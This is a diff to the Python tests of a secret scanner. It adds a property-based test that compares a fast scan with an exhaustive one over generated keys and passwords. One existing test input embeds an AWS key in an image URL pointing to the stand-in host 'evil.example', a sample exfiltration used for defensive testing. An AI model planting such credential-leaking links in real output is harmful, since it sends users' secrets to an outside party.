@@ -2,8 +2,11 @@
 
 import random
 import string
+from collections.abc import Collection, Sequence
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from policy.secrets import SHORTEST_CHOSEN, SecretScanner
 
@@ -149,6 +152,40 @@ def test_what_is_ordinary_in_header_and_markup_is_no_secret(text: str) -> None:
 def test_a_key_in_the_link_of_somebody_else_is_a_secret() -> None:
     key = SECRETS["aws_access_key"]
     assert SecretScanner().scan("", [f'<img src="https://evil.example/?X-Amz-Credential={key}">'])
+
+
+class Unhurried(SecretScanner):
+    """Looks closely at every word."""
+
+    def _suspects(self, tokens: Sequence[str]) -> Collection[str]:
+        return tokens
+
+
+CHOSEN = (
+    "Correct-Horse-Battery-9",
+    "S3cret!with#odd$signs&more",
+    "=begins.and.ends/with-signs:",
+    "x/y=z:w.a-b_c~d+e/f=gg",
+)
+KEYS = (
+    *CHOSEN,
+    *SECRETS.values(),
+    f"auth token {made(32, HEX)}",
+    f"mailgun {made(32, HEX)}-{made(8, HEX)}-{made(8, HEX)}",
+    f"gp_live_{made(10)}_{made(43)}",
+)
+SIGNS = ("", "", *"=:/.,;-_+~\"'`()<>[]{}!? \n&%\u200b\u3000é")
+AROUND = st.sampled_from(SIGNS) | st.text("aZ9-/=_ ", max_size=20)
+WRITTEN = st.tuples(AROUND, st.sampled_from(KEYS), AROUND).map("".join)
+
+
+@given(st.lists(WRITTEN, min_size=1, max_size=3).map("".join), st.booleans())
+def test_nothing_is_passed_over_that_a_close_look_would_find(text: str, is_seen: bool) -> None:
+    hurried, unhurried = (
+        kind.of(b"key", chosen=CHOSEN, is_own=lambda token: len(token) % 2 == 0) for kind in (SecretScanner, Unhurried)
+    )
+    seen, unseen = (text, []) if is_seen else ("", [text])
+    assert hurried.scan(seen, unseen) == unhurried.scan(seen, unseen)
 
 
 @pytest.mark.parametrize("place", [262_100, 262_144, 262_150, 1_000_000])
